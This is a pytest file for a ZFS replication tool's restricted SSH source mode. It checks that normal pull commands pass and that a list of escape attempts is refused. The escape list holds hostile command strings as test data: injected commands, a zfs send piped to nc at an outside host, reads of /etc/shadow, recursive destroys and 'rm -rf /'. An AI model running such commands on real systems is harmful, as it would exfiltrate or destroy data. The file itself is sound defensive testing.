"""The restricted source command: what a pull sends passes, everything else is refused.

The accepted commands are built with the engine's own builders, so a change to the
command lines zettabee sends that the restricted mode does not follow fails here.
"""

from __future__ import annotations

import shlex
import subprocess
import sys
from datetime import UTC, datetime

import pytest

from zettabee import zfs
from zettabee.pair import snapshot_name
from zettabee.source import REFUSED, Policy, Refused, parse_request, run_pipeline
from zettabee.transport import parse_pipeline_stderr, pipeline_script

FP = "0123456789abcdef0123456789abcdef"
FS = "tank/home"
OWN = f"{FS}@zettabee.{FP}.20240101T000000Z"
OWN2 = f"{FS}@zettabee.{FP}.20240101T010000Z"
CLIENT = "10.0.0.1"
POLICY = Policy(frozenset({FS, "tank/pg"}), frozenset({CLIENT}))


def mbuffer_out(target: str = f"{CLIENT}:9090", *extra: str) -> list[str]:
    return ["mbuffer", "-q", "-s", "128k", "-m", "64M", "-W", "300", *extra, "-O", target]


ALLOWED = [
    zfs.list_snapshots(FS),
    zfs.get([FS], ["type"]),
    zfs.get([FS, "tank/pg"], [*zfs.SNAPSHOT_PROPS, zfs.PROP_FINGERPRINT], depth=1),
    zfs.snapshot(FS, snapshot_name(FP, datetime.now(UTC))),
    zfs.send(OWN),
    zfs.send(OWN2, base=OWN),
    zfs.send(OWN2, base=f"{FS}@by-hand", intermediate=True),
    zfs.destroy(OWN),
    ["zfs", "list", "-H", "-o", "name", "tank"],
    ["mbuffer", "-V"],
]


@pytest.mark.parametrize("argv", ALLOWED, ids=lambda argv: " ".join(argv[:3]))
def test_every_command_of_a_pull_passes_unchanged(argv: list[str]) -> None:
    assert parse_request(shlex.join(argv), POLICY) == [argv]


def test_the_mbuffer_pipeline_passes_as_two_stages() -> None:
    send = zfs.send(OWN2, base=OWN)
    for out in (mbuffer_out(), mbuffer_out(f"{CLIENT}:9090", "-r", "2M")):
        assert parse_request(pipeline_script([send, out]), POLICY) == [send, out]


ESCAPES = {
    "a second command": "zfs list -H -o name tank; id",
    "and-then": f"zfs snapshot {OWN} && id",
    "command substitution": f"zfs snapshot $(id){OWN}",
    "backticks": "zfs list -H -o name `id`",
    "a pipe": f"zfs send {OWN} | nc 10.6.6.6 1",
    "a redirection": "zfs list -H -o name tank > /etc/passwd",
    "a newline": "zfs list -H -o name tank\nid",
    "quoted metacharacters": "zfs list -H -o name 'tank;id'",
    "a shell": "sh -c id",
    "another program": "cat /etc/shadow",
    "no command": "",
    "another dataset": "zfs send tank/secret@zettabee.0123456789abcdef0123456789abcdef.20240101T000000Z",
    "a dataset's child": f"zfs send {FS}/child@zettabee.{FP}.20240101T000000Z",
    "destroy of a manual snapshot": f"zfs destroy {FS}@by-hand",
    "destroy of the file system": f"zfs destroy -r {FS}",
    "destroy of a range": f"zfs destroy {FS}@a%b",
    "a rollback": f"zfs rollback -r {OWN}",
    "zfs set": f"zfs set readonly=off {FS}",
    "receive on the source": f"zfs receive -F {FS}",
    "send of a manual snapshot": f"zfs send {FS}@by-hand",
    "send to a file": f"zfs send {OWN} -o /tmp/x",
    "increment from another file system": f"zfs send -i tank/pg@x {OWN}",
    "an option smuggled as a dataset": f"zfs send -R {OWN}",
    "a leading dash": "zfs list -H -o name -tank",
    "extra spaces": "zfs  list -H -o name tank",
    "needless quotes": "zfs list -H -o name 'tank'",
    "zfs get of another pool's data": "zfs get -Hp -o name,property,value all -- tank/secret",
    "zfs get with a hostile property list": f"zfs get -Hp -o name,property,value 'guid;id' -- {FS}",
    "mbuffer to another host": pipeline_script([zfs.send(OWN), mbuffer_out("10.6.6.6:9090")]),
    "mbuffer writing a file": pipeline_script([zfs.send(OWN), [*mbuffer_out(), "-o", "/etc/x"]]),
    "mbuffer listening": pipeline_script([zfs.send(OWN), ["mbuffer", "-I", "9090"]]),
    "a pipeline of a shell": pipeline_script([["sh", "-c", "id"], mbuffer_out()]),
    "a pipeline of another dataset": pipeline_script(
        [["zfs", "send", f"tank/secret@zettabee.{FP}.20240101T000000Z"], mbuffer_out()]
    ),
    "a pipeline with an extra command": pipeline_script([zfs.send(OWN), mbuffer_out()]) + "; id",
    "a pipeline with a changed script": pipeline_script([zfs.send(OWN), mbuffer_out()]).replace(
        'rm -rf "$d"', "rm -rf /"
    ),
}


@pytest.mark.parametrize("command", ESCAPES.values(), ids=ESCAPES.keys())
def test_everything_else_is_refused(command: str) -> None:
    with pytest.raises(Refused):
        parse_request(command, POLICY)


def test_hostile_names_from_the_builders_are_refused_not_run() -> None:
    stamp = f"zettabee.{FP}.20240101T000000Z"
    for name in ("tank/a b", "tank/$(id)", "tank/`id`", "tank/a;id", "-tank/x", "tank/a\nid"):
        own = f"{name}@{stamp}"
        for argv in (zfs.list_snapshots(name), zfs.send(own), zfs.destroy(own)):
            with pytest.raises(Refused):
                parse_request(shlex.join(argv), POLICY)


def test_the_pipeline_reports_each_stage_as_the_shell_script_does(
    capfdbinary: pytest.CaptureFixture[bytes],
) -> None:
    stages = [
        [sys.executable, "-c", "print('x'*10)"],
        [sys.executable, "-c", "import sys; sys.stdin.read(); sys.exit('gone')"],
    ]
    status = run_pipeline(stages)
    err = capfdbinary.readouterr().err.decode()
    codes, errs, _ = parse_pipeline_stderr(err, 2)
    assert (status, codes) == (1, [0, 1])
    assert errs[1] == "gone"
    shell = subprocess.run(["sh", "-c", pipeline_script(stages)], capture_output=True, text=True)
    assert (shell.returncode, parse_pipeline_stderr(shell.stderr, 2)[:2]) == (status, (codes, errs))


def test_a_refusal_exits_126_and_says_why() -> None:
    env = {"SSH_ORIGINAL_COMMAND": "zfs destroy -r tank/home", "SSH_CONNECTION": f"{CLIENT} 1 2 22"}
    proc = subprocess.run(
        [sys.executable, "-m", "zettabee.source", FS],
        capture_output=True,
        text=True,
        env={**env, "PATH": "/usr/bin:/bin"},
    )
    assert proc.returncode == REFUSED
    assert proc.stdout == ""
    assert "refused" in proc.stderr and "zfs destroy -r tank/home" in proc.stderr


def test_the_key_s_own_datasets_are_validated() -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "zettabee.source", "tank/$(id)"], capture_output=True, text=True
    )
    assert proc.returncode != 0 and "tank/$(id)" in proc.stderr


def test_mbuffer_may_connect_back_to_the_client_only_by_default() -> None:
    policy = Policy(frozenset({FS}), frozenset({CLIENT, "backup-net.example.com"}))
    ok = pipeline_script([zfs.send(OWN), mbuffer_out("backup-net.example.com:9000")])
    assert len(parse_request(ok, policy)) == 2
    with pytest.raises(Refused, match="may not connect"):
        parse_request(ok, POLICY)
